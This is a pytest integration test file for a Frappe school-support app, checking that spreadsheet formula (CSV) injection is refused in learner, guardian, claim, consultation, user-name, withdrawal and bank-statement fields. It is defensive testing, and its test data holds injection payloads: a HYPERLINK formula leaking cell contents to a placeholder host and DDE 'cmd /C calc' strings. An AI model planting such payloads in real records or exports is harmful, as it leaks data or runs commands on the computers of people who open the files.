"""Text a spreadsheet would run as a formula never enters a record, so frappe's own list and report exports
(which write cells as they are) are safe; numbers and phone numbers are not formulas."""

import csv
import io

import frappe
import pytest

from pumpurs_app.rules.spreadsheets import FORMULA_PREFIXES
from tests.integration.consultations import consultation
from tests.integration.files import uploaded
from tests.integration.learners import new_learner
from tests.integration.money import new_claim
from tests.integration.payments import BATCH, camt053, exported_batch, paid_batch, upload
from tests.integration.plans import act, approve_all, make_plan

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"klikšķini")'


@pytest.mark.parametrize(
	"values, where",
	[
		({"first_name": PAYLOAD}, "First Name"),
		({"class_label": "+cmd|' /C calc'!A0"}, "Class"),
		({"guardians": [{"guardian_name": "@SUM(1+1)", "relation": "Mother"}]}, "Row 1"),
		(
			{
				"guardians": [
					{"guardian_name": "Anna", "relation": "Mother", "phone": "-2+3+cmd|'/C calc'!A0"}
				]
			},
			"Row 1",
		),
	],
)
def test_a_learner_with_a_formula_is_refused(world, as_user, values, where):
	with as_user(world.user("a_coord")), pytest.raises(frappe.ValidationError, match=f"{where}.*formula"):
		new_learner(world, **values).insert()


def test_phone_numbers_and_ordinary_text_pass(world, as_user):
	with as_user(world.user("a_coord")):
		doc = new_learner(
			world,
			class_label="8.a",
			guardians=[{"guardian_name": "Anna", "relation": "Mother", "phone": "+371 20000000"}],
		).insert()
	assert doc.guardians[0].phone == "+371 20000000"


def test_claims_and_consultations_refuse_formulas(world):
	claim = uploaded(world.user("a_coord"), new_claim(world, payee_name="@SUM(A1:A9)"))
	with pytest.raises(frappe.ValidationError, match="formula"):
		act(world.user("a_coord"), claim.insert)
	plan = approve_all(world, make_plan(world).name)
	with pytest.raises(frappe.ValidationError, match="Topic.*formula"):
		consultation(world, plan, topic="=1+1")


def test_the_report_views_export_holds_no_formula(world, api):
	client = api(world.user("a_coord"))
	learner = world.learners["a7"]
	label = frappe.db.get_value("Learner", learner, "class_label")
	try:
		typed = client.put(f"/api/resource/Learner/{learner}", {"class_label": "=1+1"})
		assert typed.status != 200 and "formula" in typed.error_text(), typed.text[:300]
	finally:
		frappe.db.rollback()
		frappe.db.set_value("Learner", learner, "class_label", label, update_modified=False)
		frappe.db.commit()
	response = client.request(
		"POST",
		"/api/method/frappe.desk.reportview.export_query",
		data={
			"doctype": "Learner",
			"file_format_type": "CSV",
			"fields": '["`tabLearner`.`name`", "`tabLearner`.`first_name`", "`tabLearner`.`class_label`"]',
			"filters": "[]",
		},
	)
	assert response.status == 200, response.text[:300]
	cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
	assert label in cells and not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


def test_names_copied_into_records_refuse_formulas_where_they_are_typed(world, api):
	"""Users' names are copied into the app's records (specialists, authors, staff), unchecked there: a user
	who names themself "=…" is refused on their own profile."""
	user = world.user("a_specialist")
	client = api(user)
	for field in ("first_name", "last_name"):
		response = client.put(f"/api/resource/User/{user}", {field: PAYLOAD})
		assert response.status != 200 and "formula" in response.error_text(), response.text[:300]
	assert not frappe.db.get_value("User", user, "full_name").startswith("=")
	# the control: an ordinary change of one's name is taken
	response = client.put(f"/api/resource/User/{user}", {"middle_name": "Anna"})
	assert response.status == 200, response.text[:300]
	client.put(f"/api/resource/User/{user}", {"middle_name": ""})


def test_a_withdrawal_reason_and_a_statements_texts_are_no_formulas(world):
	batch, _claims = exported_batch(world)
	with pytest.raises(frappe.ValidationError, match="formula"):
		act(world.user("muni_accountant2"), frappe.get_doc(BATCH, batch.name).withdraw, "=1+1")
	assert frappe.db.get_value(BATCH, batch.name, "status") == "Exported"
	frappe.db.rollback()
	paid, _claims = paid_batch(world)
	line = paid.lines[0]
	account = frappe.db.get_value("Partner", world.municipality, "iban")
	payee = "LV44HABA0551000000001"  # the claims' payee may be the school, paid into the partner's account
	content = camt053(account, [(f"{line.amount:.2f}", line.end_to_end_id, payee, "2026-10-26", False, None)])
	statement = upload(world, content.replace("<Nm>Saņēmējs</Nm>".encode(), b"<Nm>=HYPERLINK(1)</Nm>"))
	assert statement.lines[0].counterparty_name == "'=HYPERLINK(1)"  # neutralised as the app's workbooks do
